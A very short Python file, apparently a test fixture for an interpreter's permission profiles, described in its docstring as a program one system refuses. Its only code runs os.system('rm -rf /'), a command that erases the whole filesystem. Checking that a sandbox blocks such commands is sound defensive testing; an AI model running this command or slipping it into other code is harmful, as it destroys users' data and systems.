"""profiles: open tiers tiers+all power-interpreter
The program that system C refuses in its own words."""
import os
os.system('rm -rf /')
